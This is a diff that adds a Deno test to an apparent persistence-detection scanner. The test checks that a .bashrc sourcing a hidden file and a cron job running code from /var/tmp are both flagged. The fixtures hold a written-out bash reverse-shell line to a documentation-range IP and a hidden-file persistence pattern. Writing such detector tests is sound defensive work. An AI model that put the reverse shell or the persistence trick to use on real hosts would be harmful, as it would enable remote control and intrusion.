@@ -271,6 +271,22 @@ Deno.test("persistence: a payload down a chain of scripts is found; a loop of sc
   assert.deepEqual(f.metadata.indicators, ["dev_tcp_redirect:/usr/local/lib/backup/common.sh:2"]);
 });
 
+Deno.test("persistence: a program named through a variable set to a path earlier in the file is judged", async () => {
+  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
+  using root = makeTree(base({
+    "home/bob/.bashrc": 'F=/usr/share/doc/.x; [ -f "$F" ] && . "$F"\n',
+    "usr/share/doc/.x": `${rev} &\n`,
+    "etc/cron.d/sync": "SHELL=/bin/sh\n*/5 * * * * root D=/var/tmp/.s; ${D}/agent --quiet\n",
+    // Quiet: a variable never set, a path list, and one set to a packaged-looking path that is clean.
+    "home/alice/.bashrc": 'export EDITOR=/usr/bin/vim\nalias e="$EDITOR"\n$UNSET/x\nPATH=/opt/x:$PATH\n',
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings).filter((f) => f.includes("persistence.command")), [
+    "critical persistence.command.reverse_shell /home/bob/.bashrc",
+    "high persistence.command.untrusted_path /etc/cron.d/sync",
+  ]);
+});
+
 Deno.test("persistence: sudoers — passwordless root, !authenticate, env_keep of code, untrusted includes", async () => {
   using root = makeTree(base({
     "etc/sudoers": [
